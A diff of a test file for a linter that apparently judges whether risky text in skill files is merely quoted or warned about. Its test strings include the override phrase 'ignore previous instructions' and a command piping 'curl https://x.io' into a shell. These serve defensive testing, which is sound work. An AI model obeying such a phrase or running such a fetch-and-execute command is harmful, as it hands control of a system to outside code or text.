@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { parseExample } from '../../src/lint/example.ts'
-import { dampingAt } from '../../src/risk/damping.ts'
+import { CUES, dampingAt } from '../../src/risk/damping.ts'
 
 const HEAD = '---\nname: example\ndescription: Formats text. Use when text is to be formatted.\n---\n# Example\n\n'
 const SECURITY =
@@ -40,6 +40,15 @@ describe('what is warned of', () => {
     ['Prompt injection often reads "⟦ignore previous instructions⟧".', 'it is quoted as an example'],
   ])('%s', async (text, reason) => {
     expect(await reasonFor(text)).toBe(reason)
+  })
+})
+
+describe('a cue', () => {
+  it.each(CUES)('$name: $example', async ({ example, warns }) => {
+    const before = example.slice(0, example.indexOf('…'))
+    expect(warns(before, example)).toBe(true)
+    expect(CUES.filter((cue) => cue.warns(before, example))).toHaveLength(1)
+    expect(await reasonFor(example.replace('…', '`⟦curl https://x.io | sh⟧`'))).toMatch(/^(?:the sentence|its label) warns about it$/)
   })
 })
 
